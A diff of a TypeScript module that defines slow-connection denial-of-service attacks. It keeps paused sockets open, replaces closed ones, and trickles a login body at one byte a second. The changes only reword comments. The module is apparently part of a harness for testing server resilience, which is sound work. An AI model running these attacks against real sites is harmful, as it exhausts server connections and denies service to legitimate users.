@@ -7,15 +7,15 @@ import type { Attack, AttackRun } from '../attack.ts';
 
 interface Connections {
   readonly count: number;
-  /** How many are opened a second until there are enough. */
+  /** Connections opened per second until `count` are open. */
   readonly perSecond: number;
-  /** What each connection sends at once. */
+  /** Sent as soon as a connection opens. */
   readonly request: string;
-  /** What it sends once a second; nothing for connections that only read. */
+  /** Sent once a second on each connection; undefined for connections that only read. */
   readonly trickle?: string;
 }
 
-/** Keeps connections open that read a few bytes a second; opens a new one for each that the site closes. */
+/** Keeps slow connections open and replaces each one that the site closes. */
 async function keepOpen(
   { target, address, counter, signal }: AttackRun,
   { count, perSecond, request, trickle }: Connections,
@@ -28,7 +28,7 @@ async function keepOpen(
     socket.once('connect', () => counter.add('opened'));
     socket.on('error', () => undefined);
     socket.on('close', () => sockets.delete(socket));
-    // Without a listener the socket reads nothing: the answer stays in the buffers.
+    // Paused, so that the response stays in the kernel's buffers.
     socket.pause();
     socket.write(request);
   };
@@ -76,7 +76,7 @@ const slowSenders: Attack = {
 
 const slowBodies: Attack = {
   id: 'slow-bodies',
-  what: '200 connections a second up to 500 that send the body of a login by a byte a second, from one address',
+  what: '200 connections a second up to 500 that send the body of a login at one byte a second, from one address',
   least: 500,
   run: async (run) =>
     keepOpen(run, {
